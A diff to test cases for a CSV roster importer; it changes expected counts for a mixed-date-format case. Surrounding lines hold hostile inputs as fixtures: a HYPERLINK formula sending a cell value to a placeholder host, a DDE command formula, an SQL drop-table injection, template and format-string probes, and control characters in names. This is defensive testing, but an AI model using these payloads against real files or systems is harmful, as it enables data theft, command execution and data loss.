@@ -34,7 +34,7 @@ export const values: Case[] = [
   bad('金额千分位乱.csv', roster(3260, amounts('"1,23,456.7"', '"1,234,567.89"', '1.234.567')), { accepted: 10, quarantined: 2 }),
   bad('日期不存在.csv', roster(3280, dates('0000-00-00', '2023-02-30', '1900-02-29', '2024-13-01', '0014-03-01', '9999-99-99')), { accepted: 6, quarantined: 6 }),
   bad('日期为序号.csv', roster(3300, dates('45292', '1', '60', '2958465', '99999999')), { accepted: 7, quarantined: 5, because: ['date.unreadable'] }),
-  bad('日期各种.csv', roster(3320, dates('2024年3月', '2024.3.5', '二〇二四年三月', '20240305', '长期', '5/3/2024')), { accepted: 11, quarantined: 1, because: ['date.order'] }),
+  bad('日期各种.csv', roster(3320, dates('2024年3月', '2024.3.5', '二〇二四年三月', '20240305', '长期', '5/3/2024')), { accepted: 10, quarantined: 2, because: ['date.order', 'date.open-beginning'] }),
   bad('姓名有控制符.csv', roster(3340, names('赵\u202e春', '钱\u200b春', '\u2066孙夏\u2069', '李\u0007秋', '周\ufeff冬', '吴\u00ad春')), { accepted: 12 }),
   bad('姓名是公式.csv', roster(3360, names('=HYPERLINK("http://x"&A1)', "=cmd|' /C calc'!A0", '+1+1', '@SUM(A1)', '-2+3')), { accepted: 12 }),
   bad('姓名是SQL.csv', roster(3380, names("'; drop table batch; --", '$$; select 1', '\\copy x', '${7*7}', '{{7*7}}', '%s%n%x')), { accepted: 12 }),
